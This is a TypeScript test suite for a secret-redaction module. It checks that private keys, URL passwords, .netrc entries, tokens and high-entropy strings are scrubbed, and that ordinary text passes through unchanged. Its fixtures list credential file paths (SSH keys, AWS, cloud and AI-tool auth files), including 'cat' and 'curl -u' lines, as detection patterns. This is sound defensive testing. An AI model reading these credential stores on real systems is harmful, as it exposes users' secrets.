    const out = scrub(`${k("RSA ")}\nmiddle text\n${k("EC ")}`);
    expect(out).toContain("middle text");
    expect(out.match(/\[REDACTED:private-key\]/g)).toHaveLength(2);
    expect(out).not.toContain(body.slice(0, 20));
  });

  it("a public key is not a private key", () => {
    const pub = `-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----`;
    expect(scrubWithReport(pub).redactions["private-key"]).toBeUndefined();
  });
});

describe("home paths", () => {
  it.each([
    ["~/.ssh/id_ed25519", "~/.ssh/"],
    ["$HOME/.aws/credentials", "$HOME/.aws/"],
    ["/home/alice/.ssh/known_hosts", "/home/alice/.ssh/"],
    ["/Users/bob/.aws/config", "/Users/bob/.aws/"],
    ["/root/.kube/config", "/root/.kube/"],
    ["~/.codex/auth.json", "~/.codex/"],
    ["~/.claude/.credentials.json", "~/.claude/"],
    ["~/.gemini/oauth_creds.json", "~/.gemini/"],
    ["~/.gnupg/private-keys-v1.d/ABC.key", "~/.gnupg/"],
    ["~/.docker/config.json", "~/.docker/"],
    ["~/.config/gcloud/application_default_credentials.json", "~/.config/gcloud/"],
  ])("%s keeps %s", (path, prefix) => {
    for (const [before, after] of [
      ["cat ", ""],
      ['"', '"'],
      ["(", ")"],
      ["`", "`"],
    ]) {
      const report = scrubWithReport(`${before}${path}${after}`);
      expect(report.text).toBe(`${before}${prefix}${label("home-path")}${after}`);
      expect(report.redactions["home-path"]).toBe(1);
    }
  });

  it.each([
    "~/.bashrc",
    "~/.ssh",
    "~/.sshconfig/file",
    "/home/alice/projects/app/src/index.ts",
    "/Users/bob/Documents/notes.md",
    "src/.ssh-helpers/x.ts",
  ])("%s is not sensitive", (path) => {
    expect(scrubWithReport(`open ${path}`)).toEqual({ text: `open ${path}`, redactions: {} });
  });
});

describe("home paths and labels", () => {
  it("labels in a sensitive path stay whole, and each run of text between them is one label", () => {
    const token = `ghp_${noise(36)}`;
    const H = label("home-path");
    expect(scrubWithReport(`~/.ssh/key-${token}-end`)).toEqual({
      text: `~/.ssh/${H}${label("token")}${H}`,
      redactions: { token: 1, "home-path": 2 },
    });
    expect(scrubWithReport(`~/.aws/x?token=${token}`).text).toBe(`~/.aws/${H}${label("token")}`);
    for (const text of [`~/.ssh/${label("token")}`, `~/.ssh/${H}${label("token")}${H}`])
      expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });
});

describe("URL credentials and .netrc", () => {
  it.each([
    ["postgres://app:pa55word@db:5432/app", `postgres://app:${label("password")}@db:5432/app`],
    ["mongodb+srv://admin:pw@cluster0.example.net/db", `mongodb+srv://admin:${label("password")}@cluster0.example.net/db`],
    ["redis://:pw@cache:6379/0", `redis://:${label("password")}@cache:6379/0`],
    ["https://user:tok@example.com/x", `https://user:${label("password")}@example.com/x`],
    // a password may hold "@": URL parsers split the user info from the host at its last "@"
    ["postgres://app:Xk9@q2Lm7Zt@db.internal:5432/app", `postgres://app:${label("password")}@db.internal:5432/app`],
    ["DB_URL=mysql://root:a@b@c@db/x", `DB_URL=mysql://root:${label("password")}@db/x`],
    ["redis://:p@ss@cache?x=1", `redis://:${label("password")}@cache?x=1`],
  ])("%s", (input, expected) => {
    const report = scrubWithReport(input);
    expect(report.text).toBe(expected);
    expect(report.redactions).toEqual({ password: 1 });
    expect(new URL(input.replace(/^DB_URL=/, "")).password).not.toBe("");
  });

  it("URLs without credentials survive", () => {
    for (const url of [
      "https://example.com:8080/path?q=1#frag",
      "https://github.com/acme/app/pull/42",
      "https://example.com/search?q=token&page=2",
      "mailto:someone@example.com",
      "ssh://git@github.com/acme/app.git",
      "git@github.com:acme/app.git",
    ]) {
      expect(scrubWithReport(url)).toEqual({ text: url, redactions: {} });
    }
  });

  it(".netrc passwords are redacted", () => {
    expect(scrub("machine api.example.com login bob password hunter2")).toBe(
      `machine api.example.com login bob password ${label("password")}`,
    );
  });

  it.each([
    ['machine h login bob password "correct horse battery"', `machine h login bob password "${label("password")}"`],
    ['machine h\n  login bob\n  password "a \\" b"\n', `machine h\n  login bob\n  password "${label("password")}"\n`],
  ])("a quoted .netrc password is redacted to its closing quote: %j", (input, expected) => {
    const report = scrubWithReport(input);
    expect(report).toEqual({ text: expected, redactions: { password: 1 } });
    expect(scrubWithReport(expected)).toEqual({ text: expected, redactions: {} });
  });

  const P = label("password");
  it.each([
    // an entry's words come in any order, over any number of lines; account is a password too
    ["machine h password pw1 login bob", `machine h password ${P} login bob`, 1],
    ["login bob password pw1 machine h", `login bob password ${P} machine h`, 1],
    ["machine h\n  login bob\n  account acct1\n  password pw1\n", `machine h\n  login bob\n  account ${P}\n  password ${P}\n`, 2],
    ["default login bob password pw1", `default login bob password ${P}`, 1],
    ["machine a login b password p1\nmachine c login d password p2", `machine a login b password ${P}\nmachine c login d password ${P}`, 2],
    ['{"netrc": "machine h\\n  login u\\n  password p\\"q"}', `{"netrc": "machine h\\n  login u\\n  password ${P}"}`, 1],
  ])(".netrc entry %j", (input, expected, n) => {
    expect(scrubWithReport(input)).toEqual({ text: expected, redactions: { password: n } });
    expect(scrubWithReport(expected)).toEqual({ text: expected, redactions: {} });
  });

  it.each(["the machine learning password reset flow", "the password is rotated monthly", "login bob password pw1"])(
    "no .netrc entry without a machine and a login: %j",
    (text) => expect(scrubWithReport(text)).toEqual({ text, redactions: {} }),
  );
});

describe("high-entropy strings", () => {
  it("random base64 and hex blobs are redacted", () => {
    const b64 = Buffer.from(rnd(B62, 30)).toString("base64");
    expect(scrub(`blob ${noise(40)} end`)).toBe(`blob ${label("high-entropy")} end`);
    expect(scrub(`data ${b64}`)).toBe(`data ${label("high-entropy")}`);
    expect(scrub(`x ${noise(20)} y`)).toBe(`x ${label("high-entropy")} y`);
  });

  it("a bare AWS-style secret key with slashes is not mistaken for a path", () => {
    const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    expect(scrub(`AKIAIOSFODNN7EXAMPLE,${secret}`)).toBe(`${label("token")},${label("high-entropy")}`);
  });

  it("strings under 20 characters, without digits, or after run- are left alone", () => {
    const short = noise(19);
    expect(scrub(`x ${short} y`)).toBe(`x ${short} y`);
    const noDigits = rnd(U + L, 30);
    expect(scrub(`x ${noDigits} y`)).toBe(`x ${noDigits} y`);
    const runId = `run-${noise(24)}`;
    expect(scrub(`see ${runId}`)).toBe(`see ${runId}`);
  });

  it("words before a token excuse it only as whole git words", () => {
    const tok = noise(32);
    expect(scrub(`head ${tok}`)).toBe(`head ${tok}`);
    expect(scrub(`ahead: ${tok}`)).toBe(`ahead: ${label("high-entropy")}`);
    expect(scrub(`overhead ${tok}`)).toBe(`overhead ${label("high-entropy")}`);
  });
});

describe("labels never re-match", () => {
  const samples = [
    `password=${label("secret")}`,
    `"api_key": "${label("secret")}"`,
    `passphrase = \\"${label("secret")}\\"`,
    `Authorization: Bearer ${label("token")}`,
    `use Bearer ${label("token")}`,
    `https://${label("token")}@github.com/acme/app.git`,
    `postgres://u:${label("password")}@db/app`,
    `redis://:${label("password")}@cache`,
    `~/.ssh/${label("home-path")}`,
    `machine h login u password ${label("password")}`,
    `machine h login u password "${label("password")}"`,
    `-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}\n-----END RSA PRIVATE KEY-----`,
    `-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}`,
    KINDS.map(label).join(" "),
    KINDS.map(label).join(""),
  ];

  it.each(samples)("%s", (text) => {
    expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });

  it("scrubbing never produces a mangled label", () => {
    for (const e of CORPUS) {
      const out = scrub(e.context);
      expect(out.replace(LABEL_RE, ""), e.name).not.toContain("[REDACTED");
    }
  });
});

describe("custom patterns", () => {
  it("are applied and reported as custom", () => {
    const report = scrubWithReport("ticket ACME-1234 and ACME-99", { customPatterns: ["ACME-\\d{4}"] });
    expect(report).toEqual({ text: `ticket ${label("custom")} and ACME-99`, redactions: { custom: 1 } });
  });

  it("several patterns apply, every match counts, and the result is idempotent", () => {
    const options = { customPatterns: ["internal\\.corp\\.example", "EMP\\d{6}"] };
    const text = "host internal.corp.example for EMP000123 and EMP000456";
    const report = scrubWithReport(text, options);
    expect(report.text).toBe(`host ${label("custom")} for ${label("custom")} and ${label("custom")}`);
    expect(report.redactions).toEqual({ custom: 3 });
    expect(scrub(report.text, options)).toBe(report.text);
  });

  it("run after the built-in rules and alongside them", () => {
    const report = scrubWithReport("password=hunter2\ncodename BLUEBIRD", { customPatterns: ["BLUEBIRD"] });
    expect(report.text).toBe(`password=${label("secret")}\ncodename ${label("custom")}`);
    expect(report.redactions).toEqual({ secret: 1, custom: 1 });
  });

  it("no patterns and an empty list behave the same", () => {
    expect(scrub("plain", { customPatterns: [] })).toBe("plain");
    expect(scrub("plain", {})).toBe("plain");
  });

  it.each(["(", "[a-", "a{2,1}", "(?<name", "\\"])("invalid pattern %j throws ScrubConfigError", (pattern) => {
    expect(() => scrub("anything", { customPatterns: ["ok", pattern] })).toThrow(ScrubConfigError);
    try {
      scrub("anything", { customPatterns: [pattern] });
    } catch (error) {
      expect(error).toBeInstanceOf(Error);
      expect((error as Error).name).toBe("ScrubConfigError");
      expect((error as Error).message).toContain(JSON.stringify(pattern));
    }
  });

  it("a pattern that backtracks without end is stopped after its budget: the scrub fails closed, naming it", () => {
    // (a+)+b on 40 a's: about 2^40 steps; before the budget, the worker that scrubbed it never answered again
    const text = `${"a".repeat(40)}\nthen aaab\n`;
    expect(() => scrub(text, { customPatterns: ["(a+)+b"] })).toThrow(
      new RegExp(`^redaction pattern "\\(a\\+\\)\\+b" ran longer than ${CUSTOM_PATTERN_BUDGET_MS} ms`),
    );
    // the same pattern on text it does not backtrack on is a JavaScript pattern like any other
    expect(scrubWithReport("then aaab\n", { customPatterns: ["(a+)+b"] })).toEqual({
      text: "then [REDACTED:custom]\n",
      redactions: { custom: 1 },
    });
  });

  it("one result gets one budget, not one per string: an answer of many slow strings is stopped, not scrubbed for hours", () => {
    // each string takes part of the budget on its own (on a fast machine, under it); sixty take it several times over
    const strings = Array.from({ length: 60 }, () => "a".repeat(24));
    const answer = { summary: "s", findings: strings.map((title) => ({ severity: "low", title })) } as never;
    expect(() => scrubResult(answer, { customPatterns: ["(a+)+b"] }, resultFieldNames())).toThrow(/ran longer than/);
  });

  it("a large answer of many strings is not stopped by a pattern that runs fast: only the patterns' own time counts", () => {
    const findings = Array.from({ length: 6000 }, (_, i) => ({ severity: "low", title: `finding ${i}`, detail: "x".repeat(100) }));
    const out = scrubResult({ summary: "ACME-1234", findings } as never, { customPatterns: ["ACME-[0-9]{4}"] }, resultFieldNames());
    expect(out).toMatchObject({ summary: "[REDACTED:custom]" });
  });

  it("patterns keep JavaScript's semantics: \\s takes U+00A0, \\u escapes, long bounded repeats", () => {
    expect(scrub("corp-token\u00a0hunter2zz", { customPatterns: ["corp-token\\s+\\w+"] })).toBe("[REDACTED:custom]");
    expect(scrub("caf\u00e9-secret", { customPatterns: ["\\u00e9-\\w+"] })).toBe("caf[REDACTED:custom]");
    expect(scrub(`k ${"A".repeat(60)}`, { customPatterns: ["[A-Za-z0-9+/=]{40,4096}"] })).toBe("k [REDACTED:custom]");
  });

  it("a pattern that keeps rewriting its own output throws ScrubConfigError instead of looping", () => {
    expect(() => scrub("x REDACTED", { customPatterns: ["REDACTED"] })).toThrow(ScrubConfigError);
    expect(() => scrub("abc", { customPatterns: ["z*"] })).toThrow(ScrubConfigError);
  });
});

describe("false-positive guards come out byte-identical", () => {
  const guards: Record<string, string> = {
    prose:
      "The reviewer noted that the token bucket refills slowly. Passwords should never be logged, and secrets belong in the vault.\n" +
      "Antidisestablishmentarianism, internationalization, and pneumonoultramicroscopicsilicovolcanoconiosis are long words.",
    "long words": "Incomprehensibilities counterrevolutionaries electroencephalographically uncharacteristically",
    "camelCase identifiers":
      "convertToBase64EncodedString getUserById2FactorAuth sha256HexDigestOfArtifact http2ServerOptionsForTLS13 " +
      "parseISO8601DateTimeString ipv6AddressToUint8Array createdAt2024UpdatedAt2025 Float32ArrayFromBuffer x509CertificateChainVerify",
    "file paths":
      "src/components/Header/index.ts packages/app2/src/components/HeaderView.tsx docs/CHANGELOG2024/releaseNotes.md " +
      "node_modules/@types/node/index.d.ts lib/python3/site-packages/numpy/core/tests e2e/k8s/v1beta1/deploymentController.yaml",
    urls: "https://github.com/acme/guild-bus/blob/main/src/core/scrub.ts#L42 https://docs.example.com/v2/api/reference?lang=en&page=3",
    markdown:
      "# Heading\n\n- [x] item one\n- [ ] item two\n\n| col | value |\n|-----|-------|\n| a   | 1     |\n\n> quote\n\n```ts\nconst a = 1;\n```\n\n[link](https://example.com/docs/guide)",
    typescript: [
      "export async function refresh(token: string | undefined, opts: Options): Promise<void> {",
      "  if (token === undefined || token == null) return;",
      "  const tokens = list.map((token) => token.trim());",
      "  const token2 = getToken();",
      "  this.token = token;",
      "  const tokenCount = tokens.length;",
      '  const res = await fetch(url, { credentials: "include", headers });',
      '  if (password !== confirm) throw new Error("password mismatch");',
      "}",
    ].join("\n"),
    python: [
      'response = client.messages.create(model="claude-sonnet-4", max_tokens=1024, messages=msgs)',
      'usage = {"input_tokens": 12, "output_tokens": 345, "total_tokens": 357}',
      'tokenizer = AutoTokenizer.from_pretrained("bert-base-uncased")',
      "token_type: bearer",
      'api_key = os.environ["OPENAI_API_KEY"]',
    ].join("\n"),
    go: 'token := os.Getenv("GITHUB_TOKEN")\nif token == "" {\n\treturn errors.New("missing token")\n}',
    yaml:
      "on: push\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n" +
      "        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n",
    json: '{"credentials": {"type": "service_account"}, "max_tokens": 4096, "tokenizer": "cl100k_base"}',
    "ids and numbers": "550e8400-e29b-41d4-a716-446655440000 v1.2.3-beta.4 2024-01-15T10:30:00Z 1700000000 0xdeadbeef 3.14159265358979",
    "git output":
      `commit ${sha1("x")}\nMerge: ${sha1("y").slice(0, 7)} ${sha1("z").slice(0, 7)}\n` +
      "Author: Dev <dev@example.com>\n\n    fix: handle empty tokens",
    "sensitive words, no values": "Set the password in settings. The api key lives in the vault. token, secret, credentials.",
    // code that names a secret without holding one: calls, subscripts, variables passed on, conditions over blocks
    "code around secret names": [
      "async function refresh() {",
      "  const token = await getToken();",
      "  const secretKey = new TextEncoder().encode(process.env.JWT_SECRET);",
      "}",
      'password = request.form["password"]',
      "token = tokens[i]",
      "    if token.type == NUMBER:",
      "        stack.append(int(token.value))",
      "client = Client(api_key=api_key)",
      'service = build("drive", "v3", credentials=credentials)',
      "user.password_hash = password_hash",
      "if token:",
      '    headers["Authorization"] = "Bearer " + token',
      "while secret:",
      "    secret = secret[1:]",
      '  "secrets_policy": { "env_allowlist": [], "redaction_patterns": ["internal-[0-9]{6}"] }',
    ].join("\n"),
    "a URL's port before a path with @": "npm view https://registry.npmjs.org:443/@types/node and http://localhost:8080 or me@example.com",
    "prose around machine": "The machine learning password reset flow.",
    "a user and group, and a reference in XML":
      "docker run -u 1000:1000 img\n<password>${env.DB_PASSWORD}</password>\n<tokenizer>bert</tokenizer>",
  };

  it.each(Object.entries(guards))("%s", (_name, text) => {
    const report = scrubWithReport(text);
    expect(report.text).toBe(text);
    expect(report.redactions).toEqual({});
  });
});

describe("properties", () => {
  const singleLine = CORPUS.filter((e) => !e.context.includes("\n"));
  const digest = fc.oneof(fc.string().map(sha1), fc.string().map(sha256));
  const word = fc.constantFrom(
    "the",
    "review",
    "packet",
    "src/index.ts",
    "fix:",
    "42",
    "#",
    "-",
    "`code`",
    "Header",
    "tokens",
    "path",
    "ok.",
  );
  const trigger = fc.constantFrom(
    "password=",
    "token: ",
    "Bearer ",
    "Authorization: Bearer ",
    "-----BEGIN RSA PRIVATE KEY-----",
    "-----END RSA PRIVATE KEY-----",
    "~/.ssh/",
    "https://u:",
    "@",
    "machine h login u password ",
    '"',
    "'",
    '\\"',
    "=",
    "sk-",
    "ghp_",
    "eyJ",
    ...KINDS.map(label),
  );
  const piece = fc.oneof(
    fc.string(),
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.constantFrom(...CORPUS.map((e) => e.context)),
    fc.constantFrom(...CORPUS.map((e) => e.secret)),
    digest,
    trigger,
    word,
  );
  const joiner = fc.constantFrom("", " ", "\n", "=", ":", "/", '"', "\r\n", "\t");
  const messy = fc.array(fc.tuple(piece, joiner), { maxLength: 12 }).map((parts) => parts.map(([p, j]) => p + j).join(""));

  it("scrub is idempotent and deterministic on arbitrary text mixed with secrets, digests and labels", () => {
    fc.assert(
      fc.property(messy, (text) => {
        const once = scrub(text);
        expect(scrub(once)).toBe(once);
        expect(scrub(text)).toBe(once);
      }),
      { numRuns: 1500 },
    );
  });

  it("the report is empty exactly when nothing changed", () => {
    fc.assert(
      fc.property(messy, (text) => {
        const report = scrubWithReport(text);
        expect(total(report) === 0).toBe(report.text === text);
        for (const kind of Object.keys(report.redactions)) expect(KINDS).toContain(kind);
      }),
      { numRuns: 800 },
    );
  });

  it("scrubbing never leaves a broken label behind", () => {
    fc.assert(
      fc.property(
        messy.filter((t) => !t.includes("REDACTED")),
        (text) => {
          expect(scrub(text).replace(LABEL_RE, "")).not.toContain("REDACTED");
        },
      ),
      { numRuns: 800 },
    );
  });

  it("digests on their own lines survive among prose and corpus secrets, and the secrets do not", () => {
    const line = fc.oneof(
      fc.record({ kind: fc.constant("digest" as const), text: digest }),
      fc
        .record({ kind: fc.constant("secret" as const), entry: fc.constantFrom(...singleLine) })
        .map((r) => ({ ...r, text: r.entry.context })),
      fc.record({ kind: fc.constant("prose" as const), text: fc.array(word, { maxLength: 8 }).map((w) => w.join(" ")) }),
    );
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 10 }), (lines) => {
        const out = scrub(lines.map((l) => l.text).join("\n"));
        for (const l of lines) {
          if (l.kind === "digest") expect(out).toContain(l.text);
          if (l.kind === "secret") expect(out).not.toContain((l as { entry: CorpusEntry }).entry.secret);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("custom patterns keep scrub idempotent", () => {
    fc.assert(
      fc.property(messy, (text) => {
        const options = { customPatterns: ["ACME-[0-9]+", "\\bproject-[a-z]+\\b"] };
        const once = scrub(`${text} ACME-12 project-x`, options);
        expect(scrub(once, options)).toBe(once);
      }),
      { numRuns: 300 },
    );
  });
});

describe("hostile repetitions finish", () => {
  // Each of these made a rule rescan the rest of its run from every start (minutes on a MiB); with every rule
  // linear they take milliseconds. A regression shows as this test running into its timeout.
  const MIB = 1 << 20;
  const units = [
    "eyJ-",
    "eyJ",
    "pwdpwd",
    "pwd ",
    "token.",
    'pwd="',
    'pwd=\\"',
    "a://u:p@",
    "/home/x/",
    "SG.a-",
    "machine ",
    "\\neyJ-",
    // a value's extent: block scalars, values below their key, tags, quotes left open, "," before the next key
    "pwd: |\n",
    "pwd:\n ",
    "pwd: !a ",
    "pwd='",
    'pwd="""',
    "pwd=x,",
    '"pwd=',
    "a://u:p@@",
    // quotes left open over lines, continued values, .netrc runs, labels in paths, headers with no footer
    "pwd: 'a\n",
    'pwd="a\n x\n',
    "pwd: a\\\n",
    "  pwd: a\n    b\n",
    "machine h login u password p ",
    "~/.ssh/a[REDACTED:token]",
    "-----BEGIN PRIVATE KEY-----\n",
    "-----BEGIN PRIVATE KEY-----\\n",
    // keys in code spans, shell line breaks, code below a key, quotes after labels, placeholders in headers
    "`(pwd=a`. ",
    "pwd=a \\\n",
    "  pwd = (\n    b\n",
    'pwd: [REDACTED:secret]"a',
    '"Authorization": "Bearer <a',
    // URL passwords with a "/" or quote, words quoted in a value, gutters, dotted keys, .netrc without a login
    "a://u:p/",
    'a://u:p"q',
    '"pwd: a \\"b',
    '\n  pwd: a "b',
    "# pwd: a\n",
    "# -----BEGIN PRIVATE KEY-----\n# ",
    "x.pwd y\n",
    "machine a.b password p ",
    "curl -u a:b ",
    " -u a:b",
    "<pwd>a</pwd>",
  ];
  it.each(units)("a MiB of %j", (unit) => {
    const text = unit.repeat(Math.ceil(MIB / unit.length));
    const out = scrub(text);
    expect(scrub(out)).toBe(out);
  });
});

describe("hostile lines finish", () => {
  // One key or header whose handling looked at everything after it (a value of many quoted words rebuilt and read
  // again for each word; a key behind a gutter with no footer checked to the end of the text): a minute or more on
  // the largest artifact. Linear, they take a second at most.
  const LIMIT = 2 << 20;
  const texts: [string, string, string][] = [
    ["one value of many quoted words", "pwd: a", ' "b" c'],
    ["values that each quote a word", "", 'pwd: a "b'],
    ["keys behind a gutter without footers", "", `# -----BEGIN PRIVATE KEY-----\n# ${"A".repeat(32)}\n`],
    // a value of subscripts that is no code at its end: CODE_VALUE is tried once, never split many ways
    ["subscripts of one value", "pwd=a", "[0]"],
  ];
  it.each(texts)("%s", (_name, head, unit) => {
    const text = head + unit.repeat(Math.ceil(LIMIT / unit.length));
    const out = scrub(text);
    expect(scrub(out)).toBe(out);
  });
});

describe("scrubLine: outside text for a one-line reason", () => {
  const token = `ghp_${"A1b2C3d4".repeat(5)}`;
  it("scrubs before it cuts: a cut through a secret leaves no recognisable piece behind", () => {
    const text = `failed: password=${"s3cr3t".repeat(20)} and more`;
    expect(scrubLine(text, 30)).toBe("failed: password=[REDACTED:se…");
    expect(scrubLine(`${"x".repeat(600)} ${token}`, 500, "end")).toMatch(/^….*\[REDACTED:token\]$/);
  });
  it("folds line breaks and control characters into single spaces", () => {
    expect(scrubLine("a\n\n## Outcome\r\n\x1b[2Jb\tc\u2028d\u202ee", 100)).toBe("a ## Outcome [2Jb c d e");
    for (const keep of ["start", "end"] as const) expect(scrubLine("x".repeat(500), 200, keep)).toHaveLength(200);
  });
});

describe("scrubResult: only the top level's bindings are exact", () => {
  it("a finding's own verdict or packet_id is free text and is scrubbed; the result's bindings are not touched", () => {
    const token = `ghp_${"A1b2C3d4".repeat(5)}`;
    const result = {
      schema_version: "review_result.v1",
      packet_id: "G-plan-r1-x",
      artifact_sha256_reviewed: "a".repeat(64),
      verdict: "issues",
      findings: [{ severity: "high", title: "t", verdict: token, packet_id: token }],
      blocking_findings: [],
      round: 1,
      reviewer_host: "codex",
      reviewer_model: `gpt-5 ${token}`,
    } as never;
    const out = JSON.stringify(scrubResult(result, {}, resultFieldNames()));
    expect(out).not.toContain(token);
    expect(scrubResult(result, {}, resultFieldNames())).toMatchObject({
      packet_id: "G-plan-r1-x",
      verdict: "issues",
      artifact_sha256_reviewed: "a".repeat(64),
    });
  });

  it("keys are scrubbed too, at every level; two keys redacted alike both stay, and a __proto__ key stays a key", () => {
    const token = `ghp_${"A1b2C3d4".repeat(5)}`;
    const other = `ghp_${"Z9y8X7w6".repeat(5)}`;
    const result = JSON.parse(
      `{"schema_version":"review_result.v1","packet_id":"p","verdict":"issues","${token}":"top",` +
        `"findings":[{"title":"t","${token}":1,"${other}":2,"__proto__":{"x":1}}]}`,
    ) as never;
    const out = scrubResult(result, {}, resultFieldNames()) as unknown as { findings: Array<Record<string, unknown>> };
    expect(JSON.stringify(out)).not.toContain("A1b2C3d4");
    expect(JSON.stringify(out)).not.toContain("Z9y8X7w6");
    expect(Object.values(out.findings[0]!).sort()).toEqual([1, 2, "t", { x: 1 }].sort());
    expect(Object.hasOwn(out.findings[0]!, "__proto__")).toBe(true);
    expect(out).toMatchObject({ packet_id: "p", verdict: "issues" });
    // a field name is kept: a project's pattern that matches one renames no key of the schema
    const named = scrubResult(
      { summary: "summary of it", findings: [{ title: "t" }] } as never,
      { customPatterns: ["summary|title"] },
      resultFieldNames(),
    );
    expect(Object.keys(named)).toEqual(["summary", "findings"]);
    expect((named as unknown as { findings: Array<Record<string, unknown>> }).findings[0]).toHaveProperty("title");
    // a key shaped like a field name is still scrubbed when it is no field of the schema and holds a token
    const shaped = scrubResult(
      { summary: "s", shpat_0123456789abcdef0123456789abcdef: "x", acme_k3j4h5g6f7d8s9a0p1o2: "y", line_no: 3 } as never,
      { customPatterns: ["acme_[a-z0-9]{20}"] },
      resultFieldNames(),
    );
    expect(JSON.stringify(Object.keys(shaped))).not.toMatch(/0123456789abcdef|k3j4h5g6/);
    expect(shaped).toMatchObject({ summary: "s", line_no: 3 });
  });

  it("the delivery key is a binding: a project's pattern for hex tokens never rewrites it", () => {
    const key = "0123456789abcdef".repeat(4);
    const result = {
      schema_version: "review_result.v1",
      packet_id: "p",
      verdict: "satisfied",
      summary: `token ${key}`,
      delivery_key: key,
    } as never;
    const out = scrubResult(result, { customPatterns: ["[0-9a-f]{40,}"] }, resultFieldNames()) as unknown as {
      delivery_key: string;
      summary: string;
    };
    expect(out.delivery_key).toBe(key);
    expect(out.summary).not.toContain(key);
  });
});
